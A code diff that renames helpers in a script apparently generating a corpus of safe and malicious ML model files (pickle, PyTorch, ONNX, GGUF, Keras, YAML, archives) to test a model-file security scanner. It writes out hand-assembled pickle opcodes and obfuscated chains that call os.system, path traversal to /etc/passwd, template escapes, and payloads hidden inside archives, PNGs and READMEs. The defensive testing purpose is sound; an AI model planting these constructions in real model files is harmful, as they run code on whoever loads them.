@@ -55,19 +55,19 @@ class _Reduce:
 
 
 # -- hand-written pickle pieces -------------------------------------------------------------------
-def _u(text: str) -> bytes:
+def binunicode(text: str) -> bytes:
     """BINUNICODE (protocol 1+)."""
     raw = text.encode()
     return b"X" + struct.pack("<I", len(raw)) + raw
 
 
-def _su(text: str) -> bytes:
+def short_binunicode(text: str) -> bytes:
     """SHORT_BINUNICODE (protocol 4)."""
     raw = text.encode()
     return b"\x8c" + bytes([len(raw)]) + raw
 
 
-def _glob(module: str, name: str) -> bytes:
+def global_op(module: str, name: str) -> bytes:
     return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
 
 
@@ -75,8 +75,8 @@ PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
 TUPLE1, TUPLE2, REDUCE, STOP, EMPTY_TUPLE = b"\x85", b"\x86", b"R", b".", b")"
 
 
-def _call(module: str, name: str, arg: str) -> bytes:
-    return PROTO2 + _glob(module, name) + _u(arg) + TUPLE1 + REDUCE + STOP
+def reduce_call(module: str, name: str, arg: str) -> bytes:
+    return PROTO2 + global_op(module, name) + binunicode(arg) + TUPLE1 + REDUCE + STOP
 
 
 # -- files ------------------------------------------------------------------------------------------
@@ -101,7 +101,7 @@ def _tiny_model() -> Any:
     )
 
 
-def _torch_bytes(obj: Any, *, legacy: bool = False) -> bytes:
+def torch_bytes(obj: Any, *, legacy: bool = False) -> bytes:
     import torch
 
     buffer = io.BytesIO()
@@ -190,7 +190,7 @@ def _malicious(out: Path) -> list[Sample]:
         s.append(Sample(_write(out, technique, name, data), technique, "unsafe", **kw))
 
     dangerous = "pickle.dangerous-global"
-    add("os_system", "model.pkl", _call("os", "system", PAYLOAD), rule=dangerous, global_name="os.system")
+    add("os_system", "model.pkl", reduce_call("os", "system", PAYLOAD), rule=dangerous, global_name="os.system")
     add(
         "posix_system",
         "model.pkl",
@@ -229,33 +229,42 @@ def _malicious(out: Path) -> list[Sample]:
     )
     getattr_chain = (
         PROTO2
-        + _glob("builtins", "getattr")
-        + _glob("builtins", "__import__")
-        + _u("os")
+        + global_op("builtins", "getattr")
+        + global_op("builtins", "__import__")
+        + binunicode("os")
         + TUPLE1
         + REDUCE
-        + _u("system")
+        + binunicode("system")
         + TUPLE2
         + REDUCE
-        + _u(PAYLOAD)
+        + binunicode(PAYLOAD)
         + TUPLE1
         + REDUCE
         + STOP
     )
     add("builtins_getattr_chain", "model.pkl", getattr_chain, rule=dangerous, global_name="builtins.getattr")
-    import_chain = PROTO4 + _su("builtins") + _su("__import__") + b"\x93" + _su("os") + TUPLE1 + REDUCE + STOP
+    import_chain = (
+        PROTO4
+        + short_binunicode("builtins")
+        + short_binunicode("__import__")
+        + b"\x93"
+        + short_binunicode("os")
+        + TUPLE1
+        + REDUCE
+        + STOP
+    )
     add("builtins_import_chain", "model.pkl", import_chain, rule=dangerous, global_name="builtins.__import__")
     importlib_chain = (
         PROTO2
-        + _glob("builtins", "getattr")
-        + _glob("importlib", "import_module")
-        + _u("os")
+        + global_op("builtins", "getattr")
+        + global_op("importlib", "import_module")
+        + binunicode("os")
         + TUPLE1
         + REDUCE
-        + _u("system")
+        + binunicode("system")
         + TUPLE2
         + REDUCE
-        + _u(PAYLOAD)
+        + binunicode(PAYLOAD)
         + TUPLE1
         + REDUCE
         + STOP
@@ -271,14 +280,14 @@ def _malicious(out: Path) -> list[Sample]:
     # attrgetter("system")(torch.serialization.os)("...") : a module reached through an innocent-looking one
     attrgetter = (
         PROTO2
-        + _glob("operator", "attrgetter")
-        + _u("system")
+        + global_op("operator", "attrgetter")
+        + binunicode("system")
         + TUPLE1
         + REDUCE
-        + _glob("torch.serialization", "os")
+        + global_op("torch.serialization", "os")
         + TUPLE1
         + REDUCE
-        + _u(PAYLOAD)
+        + binunicode(PAYLOAD)
         + TUPLE1
         + REDUCE
         + STOP
@@ -286,12 +295,12 @@ def _malicious(out: Path) -> list[Sample]:
     add("operator_attrgetter", "model.pkl", attrgetter, rule=dangerous, global_name="operator.attrgetter")
     methodcaller = (
         PROTO2
-        + _glob("operator", "methodcaller")
-        + _u("system")
-        + _u(PAYLOAD)
+        + global_op("operator", "methodcaller")
+        + binunicode("system")
+        + binunicode(PAYLOAD)
         + TUPLE2
         + REDUCE
-        + _glob("torch.serialization", "os")
+        + global_op("torch.serialization", "os")
         + TUPLE1
         + REDUCE
         + STOP
@@ -304,7 +313,7 @@ def _malicious(out: Path) -> list[Sample]:
         rule=dangerous,
         global_name="functools.partial",
     )
-    inner = _call("os", "system", PAYLOAD)
+    inner = reduce_call("os", "system", PAYLOAD)
     add(
         "nested_pickle_loads",
         "model.pkl",
@@ -316,14 +325,14 @@ def _malicious(out: Path) -> list[Sample]:
     )
     memo = (
         PROTO4
-        + _su("os")
+        + short_binunicode("os")
         + b"q\x00"  # BINPUT 0
-        + _su("system")
+        + short_binunicode("system")
         + b"q\x01"  # BINPUT 1
         + b"00"  # POP POP
         + b"h\x00h\x01"  # BINGET 0, BINGET 1
         + b"\x93"  # STACK_GLOBAL
-        + _su(PAYLOAD)
+        + short_binunicode(PAYLOAD)
         + TUPLE1
         + REDUCE
         + STOP
@@ -332,7 +341,7 @@ def _malicious(out: Path) -> list[Sample]:
     add(
         "ext_code_handwritten",
         "model.pkl",
-        PROTO2 + b"\x83\xbc\x0a" + _u(PAYLOAD) + TUPLE1 + REDUCE + STOP,
+        PROTO2 + b"\x83\xbc\x0a" + binunicode(PAYLOAD) + TUPLE1 + REDUCE + STOP,
         rule="pickle.extension-code",
     )
     copyreg.add_extension(os.system.__module__, "system", 0xE7)
@@ -359,7 +368,7 @@ def _malicious(out: Path) -> list[Sample]:
     add(
         "unknown_global",
         "model.pkl",
-        PROTO2 + _glob("mypkg.models", "Net") + EMPTY_TUPLE + b"\x81" + STOP,
+        PROTO2 + global_op("mypkg.models", "Net") + EMPTY_TUPLE + b"\x81" + STOP,
         rule="pickle.unknown-global",
         global_name="mypkg.models.Net",
     )
@@ -375,11 +384,11 @@ def _malicious(out: Path) -> list[Sample]:
 def _legacy_samples(out: Path) -> list[Sample]:
     import torch
 
-    legacy = _torch_bytes(_state_dict(), legacy=True)
+    legacy = torch_bytes(_state_dict(), legacy=True)
     ends = _pickle_ends(legacy, 3)
     payload = pickle.dumps(_Reduce(os.system, (PAYLOAD,)), protocol=2)
     third = legacy[: ends[1]] + payload + legacy[ends[2] :]
-    fourth = _torch_bytes({"w": torch.ones(3), "hook": _Reduce(os.system, (PAYLOAD,))}, legacy=True)
+    fourth = torch_bytes({"w": torch.ones(3), "hook": _Reduce(os.system, (PAYLOAD,))}, legacy=True)
     system = f"{os.system.__module__}.system"
     return [
         Sample(
@@ -403,8 +412,8 @@ def _legacy_samples(out: Path) -> list[Sample]:
 def _zip_samples(out: Path) -> list[Sample]:
     import torch
 
-    state = _torch_bytes(_state_dict())
-    payload = _call("os", "system", PAYLOAD)
+    state = torch_bytes(_state_dict())
+    payload = reduce_call("os", "system", PAYLOAD)
     storage = _member_named(state, "/data/0")
     prefix = storage.split("/")[0]
     pkl = f"{prefix}/data.pkl"
@@ -710,7 +719,7 @@ def _keras_samples(out: Path) -> list[Sample]:
 
 
 # -- ONNX ----------------------------------------------------------------------------------------------
-def _onnx_model(location: str | None = None) -> bytes:
+def onnx_model(location: str | None = None) -> bytes:
     import numpy as np
     from onnx import TensorProto, helper, numpy_helper
 
@@ -736,13 +745,13 @@ def _onnx_model(location: str | None = None) -> bytes:
 def _onnx_samples(out: Path) -> list[Sample]:
     return [
         Sample(
-            _write(out, "onnx_external_data_traversal", "model.onnx", _onnx_model("../../etc/passwd")),
+            _write(out, "onnx_external_data_traversal", "model.onnx", onnx_model("../../etc/passwd")),
             "onnx_external_data_traversal",
             "unsafe",
             rule="onnx.external-data-escape",
         ),
         Sample(
-            _write(out, "onnx_external_data_absolute", "model.onnx", _onnx_model("/etc/passwd")),
+            _write(out, "onnx_external_data_absolute", "model.onnx", onnx_model("/etc/passwd")),
             "onnx_external_data_absolute",
             "unsafe",
             rule="onnx.external-data-escape",
@@ -751,13 +760,13 @@ def _onnx_samples(out: Path) -> list[Sample]:
 
 
 # -- safetensors and GGUF ----------------------------------------------------------------------------------
-def _safetensors(header: dict[str, Any], data: bytes, *, declared: int | None = None) -> bytes:
+def safetensors_file(header: dict[str, Any], data: bytes, *, declared: int | None = None) -> bytes:
     raw = json.dumps(header, separators=(",", ":")).encode()
     raw += b" " * (-len(raw) % 8)
     return struct.pack("<Q", declared if declared is not None else len(raw)) + raw + data
 
 
-def _gguf(*, template: str, bad_offset: bool = False) -> bytes:
+def gguf_file(*, template: str, bad_offset: bool = False) -> bytes:
     def string(text: str) -> bytes:
         raw = text.encode()
         return struct.pack("<Q", len(raw)) + raw
@@ -784,7 +793,7 @@ def _gguf(*, template: str, bad_offset: bool = False) -> bytes:
     return header + data + b"\x00" * (-len(data) % 32)
 
 
-_BENIGN_TEMPLATE = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
+BENIGN_TEMPLATE = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
 
 
 def _header_samples(out: Path) -> list[Sample]:
@@ -797,21 +806,21 @@ def _header_samples(out: Path) -> list[Sample]:
     bad_dtype = {"a": {"dtype": "F128", "shape": [3], "data_offsets": [0, 24]}}
     samples = []
     for technique, data, rule in (
-        ("safetensors_header_overflow", _safetensors(good, floats, declared=10_000_000), "safetensors.malformed"),
-        ("safetensors_overlapping_offsets", _safetensors(overlap, floats), "safetensors.malformed"),
-        ("safetensors_trailing_bytes", _safetensors(good, floats) + b"\x80\x02N.", "safetensors.malformed"),
-        ("safetensors_bad_dtype", _safetensors(bad_dtype, floats), "safetensors.malformed"),
+        ("safetensors_header_overflow", safetensors_file(good, floats, declared=10_000_000), "safetensors.malformed"),
+        ("safetensors_overlapping_offsets", safetensors_file(overlap, floats), "safetensors.malformed"),
+        ("safetensors_trailing_bytes", safetensors_file(good, floats) + b"\x80\x02N.", "safetensors.malformed"),
+        ("safetensors_bad_dtype", safetensors_file(bad_dtype, floats), "safetensors.malformed"),
         (
             "safetensors_metadata_not_string",
-            _safetensors({"__metadata__": {"format": {"x": 1}}, **good}, floats),
+            safetensors_file({"__metadata__": {"format": {"x": 1}}, **good}, floats),
             "safetensors.malformed",
         ),
         (
             "gguf_template_escape",
-            _gguf(template="{{ ''.__class__.__mro__[1].__subclasses__() }}"),
+            gguf_file(template="{{ ''.__class__.__mro__[1].__subclasses__() }}"),
             "gguf.template-escape",
         ),
-        ("gguf_tensor_outside_file", _gguf(template=_BENIGN_TEMPLATE, bad_offset=True), "gguf.malformed"),
+        ("gguf_tensor_outside_file", gguf_file(template=BENIGN_TEMPLATE, bad_offset=True), "gguf.malformed"),
     ):
         name = "model.gguf" if technique.startswith("gguf") else "model.safetensors"
         samples.append(Sample(_write(out, technique, name, data), technique, "unsafe", rule=rule))
@@ -847,10 +856,10 @@ def _benign(out: Path) -> list[Sample]:
     def add(technique: str, name: str, data: bytes, notes: str = "") -> None:
         s.append(Sample(_write(out, technique, name, data), technique, "safe", notes=notes))
 
-    add("torch_zip_state_dict", "pytorch_model.bin", _torch_bytes(_state_dict()))
-    add("torch_legacy_state_dict", "pytorch_model.bin", _torch_bytes(_state_dict(), legacy=True))
-    add("torch_zip_checkpoint_optimizer", "checkpoint.pt", _torch_bytes(_checkpoint()))
-    add("torch_legacy_checkpoint_optimizer", "checkpoint.pt", _torch_bytes(_checkpoint(), legacy=True))
+    add("torch_zip_state_dict", "pytorch_model.bin", torch_bytes(_state_dict()))
+    add("torch_legacy_state_dict", "pytorch_model.bin", torch_bytes(_state_dict(), legacy=True))
+    add("torch_zip_checkpoint_optimizer", "checkpoint.pt", torch_bytes(_checkpoint()))
+    add("torch_legacy_checkpoint_optimizer", "checkpoint.pt", torch_bytes(_checkpoint(), legacy=True))
     misc = {
         "param": torch.nn.Parameter(torch.ones(2)),
         "bf16": torch.ones(3, dtype=torch.bfloat16),
@@ -859,8 +868,8 @@ def _benign(out: Path) -> list[Sample]:
         "f16_view": torch.arange(12, dtype=torch.float16).reshape(3, 4)[:, 1:],
         "meta": {"layers": [1, 2, 3], "names": ("a", "b"), "lr": 1e-3, "flag": None},
     }
-    add("torch_zip_mixed_dtypes", "weights.pt", _torch_bytes(misc))
-    add("torch_legacy_mixed_dtypes", "weights.pt", _torch_bytes(misc, legacy=True))
+    add("torch_zip_mixed_dtypes", "weights.pt", torch_bytes(misc))
+    add("torch_legacy_mixed_dtypes", "weights.pt", torch_bytes(misc, legacy=True))
     npy = io.BytesIO()
     np.save(npy, np.arange(24, dtype=np.float32).reshape(4, 6))
     add("numpy_npy", "weights.npy", npy.getvalue())
@@ -880,10 +889,10 @@ def _benign(out: Path) -> list[Sample]:
         {"w": torch.randn(4, 4), "b": torch.zeros(4)}, str(folder / "model.safetensors"), metadata={"format": "pt"}
     )
     s.append(Sample(folder / "model.safetensors", "safetensors_torch", "safe"))
-    add("gguf_handwritten_v3", "model.gguf", _gguf(template=_BENIGN_TEMPLATE))
+    add("gguf_handwritten_v3", "model.gguf", gguf_file(template=BENIGN_TEMPLATE))
     onnx_folder = _folder(out, "onnx_external_data_inside")
     (onnx_folder / "weights.bin").write_bytes(struct.pack("<12f", *range(12)))
-    (onnx_folder / "model.onnx").write_bytes(_onnx_model("weights.bin"))
+    (onnx_folder / "model.onnx").write_bytes(onnx_model("weights.bin"))
     s.append(Sample(onnx_folder / "model.onnx", "onnx_external_data_inside", "safe"))
     s.append(Sample(_onnx_export(_folder(out, "onnx_torch_export")), "onnx_torch_export", "safe"))
     standard = _k3_model([_k3_dense("dense", 3), _k3_dense("head", 2)])
@@ -918,10 +927,10 @@ def _fail_closed_neighbours(out: Path) -> list[Sample]:
     from safetensors.torch import save_file
     from tokenizers import Tokenizer, models, pre_tokenizers
 
-    from tests import inert_samples
-    from tests import test_scan_archives_differential as arch
-    from tests import test_scan_code_configs as code
-    from tests import test_scan_unrecognized as unrec
+    from tests.helpers import archive_samples as arch
+    from tests.helpers import inert_samples
+    from tests.helpers import saved_models as sm
+    from tests.helpers import unrecognized_samples as unrec
 
     s: list[Sample] = []
 
@@ -948,19 +957,22 @@ def _fail_closed_neighbours(out: Path) -> list[Sample]:
     tokenizer.save(str(folder / "tokenizer.json"))
     save_file({"w": torch.ones(2, 2)}, str(folder / "model.safetensors"), metadata={"format": "pt"})
     s.append(Sample(folder, folder.name, "safe", notes="a Hugging Face model folder", tags=("fail-closed", "inert")))
-    shards = [("model-00001.safetensors", arch._safetensors()), ("model-00002.safetensors", arch._safetensors())]
-    add("tar_gnu_safetensors", "model.tar", arch._TAR_FORMATS["gnu"](shards), "tar")
-    add("tar_v7_safetensors", "model.tar", arch._TAR_FORMATS["v7"](shards), "tar")
-    nested = arch._zip(
-        {"model.tar.gz": gzip.compress(arch._tar([("weights.safetensors", arch._safetensors())]), mtime=0)}
+    shards = [
+        ("model-00001.safetensors", arch.safetensors_bytes()),
+        ("model-00002.safetensors", arch.safetensors_bytes()),
+    ]
+    add("tar_gnu_safetensors", "model.tar", arch.TAR_FORMATS["gnu"](shards), "tar")
+    add("tar_v7_safetensors", "model.tar", arch.TAR_FORMATS["v7"](shards), "tar")
+    nested = arch.zip_bytes(
+        {"model.tar.gz": gzip.compress(arch.tar_bytes([("weights.safetensors", arch.safetensors_bytes())]), mtime=0)}
     )
     add("safetensors_in_tar_gz_in_zip", "bundle.zip", nested, "nested")
     joblib_lzma = _folder(out, "joblib_lzma_array") / "weights.joblib.lzma"
     joblib.dump(np.arange(1000, dtype=np.float32).reshape(10, 100), joblib_lzma, compress="lzma")
     s.append(Sample(joblib_lzma, "joblib_lzma_array", "safe", tags=("fail-closed", "compression")))
-    llama3 = (Path(__file__).parent / "chat_templates" / "llama-3.jinja").read_text()
-    add("gguf_llama3_chat_template", "model.gguf", _gguf(template=llama3), "gguf-template")
-    add("saved_model_serving", "saved_model.pb", code._benign_saved_model(), "saved-model")
+    llama3 = (Path(__file__).parents[1] / "chat_templates" / "llama-3.jinja").read_text()
+    add("gguf_llama3_chat_template", "model.gguf", gguf_file(template=llama3), "gguf-template")
+    add("saved_model_serving", "saved_model.pb", sm.benign_saved_model(), "saved-model")
     return s
 
 
@@ -974,7 +986,7 @@ def _onnx_export(folder: Path) -> Path:
             warnings.simplefilter("ignore")
             torch.onnx.export(model, (torch.randn(1, 4),), str(path), dynamo=False)
     except Exception:  # noqa: BLE001 - an exporter that needs extra packages: fall back to onnx.helper
-        path.write_bytes(_onnx_model())
+        path.write_bytes(onnx_model())
     return path
 
 
@@ -993,7 +1005,7 @@ def write_checkpoint(path: Path, megabytes: int, *, legacy: bool = False, tensor
 def _reader_differential(out: Path) -> list[Sample]:
     """Pickles that a re-implemented parser reads differently from the loaders (issue 13, class 1);
     tests/test_scan_pickle_differential.py proves each one live."""
-    from tests import pickle_attacks as attacks
+    from tests.helpers import pickle_attacks as attacks
 
     samples = []
     cases: list[tuple[str, bytes, str, str | None]] = [
@@ -1042,23 +1054,23 @@ _DANGEROUS = "pickle.dangerous-global"
 
 def _unrecognized_samples(out: Path) -> list[Sample]:
     """Content no format scanner reads, or a broken known format (test_scan_unrecognized)."""
-    from tests import fail_closed_samples as fc
-    from tests import inert_samples
-    from tests import test_scan_archives_differential as arch
-    from tests import test_scan_unrecognized as unrec
-    from tests.live import PAYLOAD_COMMAND
+    from tests.helpers import archive_samples as arch
+    from tests.helpers import fail_closed_samples as fc
+    from tests.helpers import inert_samples
+    from tests.helpers import unrecognized_samples as unrec
+    from tests.helpers.live import PAYLOAD_COMMAND
 
     s: list[Sample] = []
     add = _fc_adder(out, s)
-    evil, unrecognized = arch._evil(), "content.unrecognized"
-    add("fc_7z_wrapped_pickle", "weights.7z", unrec._seven_zip(evil), unrecognized, "unrecognized")
+    evil, unrecognized = arch.evil_pickle(), "content.unrecognized"
+    add("fc_7z_wrapped_pickle", "weights.7z", unrec.seven_zip(evil), unrecognized, "unrecognized")
     add("fc_rar5_wrapped_pickle", "weights.rar", unrec.WRAPPERS["rar5"][0](evil), unrecognized, "unrecognized")
     source = f"import os\nos.system({PAYLOAD_COMMAND!r})\n"
     add("fc_python_bytecode", "model.pyc", fc.pyc(source), unrecognized, "unrecognized")
     add("fc_elf_binary", "model.bin", b"\x7fELF\x02\x01\x01\x00" + bytes(56), unrecognized, "unrecognized")
-    readme = b"# notes\n" + b"x" * 5000 + b"\x00" + unrec._evil_pickle()
+    readme = b"# notes\n" + b"x" * 5000 + b"\x00" + unrec.text_evil_pickle()
     add("fc_text_turns_binary", "README.md", readme, unrecognized, "unrecognized")
-    png_zip = fc.png_hiding_zip(inert_samples.png(), unrec._evil_pickle())
+    png_zip = fc.png_hiding_zip(inert_samples.png(), unrec.text_evil_pickle())
     add(
         "fc_png_hiding_zip",
         "figure.png",
@@ -1080,28 +1092,30 @@ def _archive_differential_samples(out: Path) -> list[Sample]:
     import gzip
     import lzma
 
-    from tests import fail_closed_samples as fc
-    from tests import test_scan_archives_differential as arch
-    from tests import test_scan_unrecognized as unrec
+    from tests.helpers import archive_samples as arch
+    from tests.helpers import fail_closed_samples as fc
+    from tests.helpers import unrecognized_samples as unrec
 
     s: list[Sample] = []
     add = _fc_adder(out, s)
-    evil = arch._evil()  # os.system(PAYLOAD_COMMAND), protocol 4
-    npz = b"PK\x05\x06" + b"junk" * 100 + arch._evil_npz()
+    evil = arch.evil_pickle()  # os.system(PAYLOAD_COMMAND), protocol 4
+    npz = b"PK\x05\x06" + b"junk" * 100 + arch.evil_npz()
     add("fc_npz_junk_prefix", "weights.npz", npz, _DANGEROUS, "zip", global_name=_SYSTEM, member="meta.npy")
-    counted = arch._absolute(arch._evil(2), arch._zip({"archive/data.pkl": pickle.dumps([1.0])}))
+    counted = arch.prefixed_zip(arch.evil_pickle(2), arch.zip_bytes({"archive/data.pkl": pickle.dumps([1.0])}))
     add("fc_pickle_before_zip_counted", "model.pt", counted, _DANGEROUS, "zip", global_name=_SYSTEM, member="<prefix>")
-    trailing = arch._zip({"data.pkl": evil}) + b"trailing bytes after the end record"
+    trailing = arch.zip_bytes({"data.pkl": evil}) + b"trailing bytes after the end record"
     add("fc_zip_trailing_bytes", "model.zip", trailing, "zip.bad-end-record", "zip")
-    mismatch = bytearray(arch._evil_npz())
+    mismatch = bytearray(arch.evil_npz())
     struct.pack_into("<L", mismatch, 14, 0xDEADBEEF)
     add("fc_npz_local_header_mismatch", "weights.npz", bytes(mismatch), "zip.header-mismatch", "zip")
     for fmt, where in (("v7", "storages"), ("gnu", "tensors"), ("pax", "pickle")):
-        data = arch._TAR_FORMATS[fmt](arch._torch_legacy_members(where))
+        data = arch.TAR_FORMATS[fmt](arch.torch_legacy_members(where))
         add(f"fc_torch_legacy_tar_{fmt}", "model.pt", data, _DANGEROUS, "tar", global_name=_SYSTEM, member=where)
-    after_end = arch._tar([("model.safetensors", arch._safetensors())]) + arch._tar([("extra.pkl", evil)])
+    after_end = arch.tar_bytes([("model.safetensors", arch.safetensors_bytes())]) + arch.tar_bytes(
+        [("extra.pkl", evil)]
+    )
     add("fc_tar_member_after_end", "model.tar", after_end, "tar.malformed", "tar")
-    header_pickle = arch._as_v7(arch._tar([(unrec._evil_pickle().decode(), arch._safetensors())]))
+    header_pickle = arch.as_v7(arch.tar_bytes([(unrec.text_evil_pickle().decode(), arch.safetensors_bytes())]))
     add(
         "fc_tar_header_is_pickle",
         "model.pkl",
@@ -1111,21 +1125,23 @@ def _archive_differential_samples(out: Path) -> list[Sample]:
         global_name="os.system",
         member="<pickle>",
     )
-    both = fc.gzip_header_tar(pickle.dumps({"w": 1}, protocol=2), arch._tar([("payload.pkl", evil)]))
+    both = fc.gzip_header_tar(pickle.dumps({"w": 1}, protocol=2), arch.tar_bytes([("payload.pkl", evil)]))
     add("fc_gzip_header_is_tar", "model.joblib", both, _DANGEROUS, "tar", global_name=_SYSTEM, member="<tar>")
-    add("fc_joblib_lzma_alone", "model.joblib", arch._alone(evil), _DANGEROUS, "compression", global_name=_SYSTEM)
-    add("fc_joblib_zfile", "model.joblib", arch._zfile(evil), _DANGEROUS, "compression", global_name=_SYSTEM)
+    add("fc_joblib_lzma_alone", "model.joblib", arch.lzma_alone(evil), _DANGEROUS, "compression", global_name=_SYSTEM)
+    add("fc_joblib_zfile", "model.joblib", arch.zfile(evil), _DANGEROUS, "compression", global_name=_SYSTEM)
     concatenated = gzip.compress(b"") + gzip.compress(evil)
     add("fc_gzip_empty_first_stream", "model.pkl.gz", concatenated, _DANGEROUS, "compression", global_name=_SYSTEM)
     garbage = gzip.compress(evil) + b"trailing garbage"
     add("fc_gzip_trailing_garbage", "model.pkl.gz", garbage, "compressed.malformed", "compression")
     zstd = b"\x28\xb5\x2f\xfd\x64\x40\xa7" + evil
     add("fc_zstd_unsupported", "model.joblib.zst", zstd, "compressed.unsupported", "compression")
-    inner = gzip.compress(arch._tar([("weights.safetensors", arch._safetensors()), ("model.pkl", evil)]), mtime=0)
-    nested = arch._zip({"model.tar.gz": inner})
+    inner = gzip.compress(
+        arch.tar_bytes([("weights.safetensors", arch.safetensors_bytes()), ("model.pkl", evil)]), mtime=0
+    )
+    nested = arch.zip_bytes({"model.tar.gz": inner})
     member = "model.tar.gz!/<gzip>!/model.pkl"
     add("fc_tar_gz_in_zip", "bundle.zip", nested, _DANGEROUS, "nested", global_name=_SYSTEM, member=member)
-    xz = lzma.compress(arch._tar([("inner.zip", arch._zip({"data.pkl": evil}))]))
+    xz = lzma.compress(arch.tar_bytes([("inner.zip", arch.zip_bytes({"data.pkl": evil}))]))
     member = "<xz>!/<tar>!/inner.zip!/data.pkl"
     add("fc_zip_in_tar_in_xz", "bundle.tar.xz", xz, _DANGEROUS, "nested", global_name=_SYSTEM, member=member)
     return s
@@ -1133,21 +1149,22 @@ def _archive_differential_samples(out: Path) -> list[Sample]:
 
 def _code_config_samples(out: Path) -> list[Sample]:
     """Keras objects, Hydra targets, GGUF chat templates and SavedModel ops that run code (test_scan_code_configs)."""
-    from tests import fail_closed_samples as fc
-    from tests import test_scan_code_configs as code
-    from tests.live import PAYLOAD_COMMAND
+    from tests.helpers import code_config_samples as code
+    from tests.helpers import fail_closed_samples as fc
+    from tests.helpers import saved_models as sm
+    from tests.helpers.live import PAYLOAD_COMMAND
 
     s: list[Sample] = []
     add = _fc_adder(out, s)
     dangerous_keras = "keras.dangerous-object"
     kwargs = {"fname": "payload", "origin": "https://example.invalid/payload", "cache_dir": ".", "cache_subdir": "."}
-    get_file = code._functional([code._call_layer("keras.utils", "get_file", kwargs)], "call")
+    get_file = code.functional([code.call_layer("keras.utils", "get_file", kwargs)], "call")
     for technique, config in (
         ("fc_keras_get_file", get_file),
         ("fc_keras_unlock_and_lambda", fc.keras_unlock_and_lambda(PAYLOAD_COMMAND)),
-        ("fc_keras_torch_module_wrapper", code._functional([code._torch_module_wrapper()], "wrapped")),
+        ("fc_keras_torch_module_wrapper", code.functional([code.torch_module_wrapper()], "wrapped")),
     ):
-        path = code._keras_file(_folder(out, technique) / "model.keras", config)
+        path = code.keras_file(_folder(out, technique) / "model.keras", config)
         s.append(
             Sample(path, technique, "unsafe", rule=dangerous_keras, member="config.json", tags=("fail-closed", "keras"))
         )
@@ -1162,7 +1179,7 @@ def _code_config_samples(out: Path) -> list[Sample]:
     add("fc_hydra_json_os_system", "config.json", code.MALICIOUS_CONFIGS["config.json"].encode(), hydra, "hydra")
     tag = f"x: !!python/object/apply:os.system [{PAYLOAD_COMMAND!r}]\n".encode()
     add("fc_yaml_python_tag", "config.yaml", tag, "config.yaml-python-tag", "hydra")
-    nemo = code._nemo(_folder(out, "fc_nemo_hydra_target") / "model.nemo", code.MALICIOUS_CONFIGS["os-system.yaml"])
+    nemo = code.nemo(_folder(out, "fc_nemo_hydra_target") / "model.nemo", code.MALICIOUS_CONFIGS["os-system.yaml"])
     s.append(
         Sample(
             nemo,
@@ -1174,15 +1191,15 @@ def _code_config_samples(out: Path) -> list[Sample]:
         )
     )
     for name in ("attr-built", "attr-format", "hidden-in-chatml"):
-        data = _gguf(template=code.MALICIOUS_TEMPLATES[name])
+        data = gguf_file(template=code.MALICIOUS_TEMPLATES[name])
         add("fc_gguf_template_" + name.replace("-", "_"), "model.gguf", data, "gguf.template-escape", "gguf-template")
-    nodes, functions = code._serving()
-    saver = code._saver_nodes()
-    write_file = [code._node("w", "WriteFile", "fname", "contents"), code._node("fname", "Const")]
-    py_func = [*functions, code._function("__inference_payload_9", [code._node("p", "PyFunc", "x")])]
+    nodes, functions = sm.serving()
+    saver = sm.saver_nodes()
+    write_file = [sm.node("w", "WriteFile", "fname", "contents"), sm.node("fname", "Const")]
+    py_func = [*functions, sm.graph_function("__inference_payload_9", [sm.node("p", "PyFunc", "x")])]
     for technique, graph in (
-        ("fc_saved_model_write_file", code._saved_model(nodes + saver + write_file, functions)),
-        ("fc_saved_model_py_func", code._saved_model(nodes + saver, py_func)),
+        ("fc_saved_model_write_file", sm.saved_model(nodes + saver + write_file, functions)),
+        ("fc_saved_model_py_func", sm.saved_model(nodes + saver, py_func)),
     ):
         add(technique, "saved_model.pb", graph, "saved-model.dangerous-op", "saved-model")
     return s
@@ -1190,7 +1207,7 @@ def _code_config_samples(out: Path) -> list[Sample]:
 
 def _pickle_differential_samples(out: Path) -> list[Sample]:
     """The pickle reader differentials _reader_differential leaves out (test_scan_pickle_differential)."""
-    from tests import pickle_attacks as attacks
+    from tests.helpers import pickle_attacks as attacks
 
     s: list[Sample] = []
     add = _fc_adder(out, s)
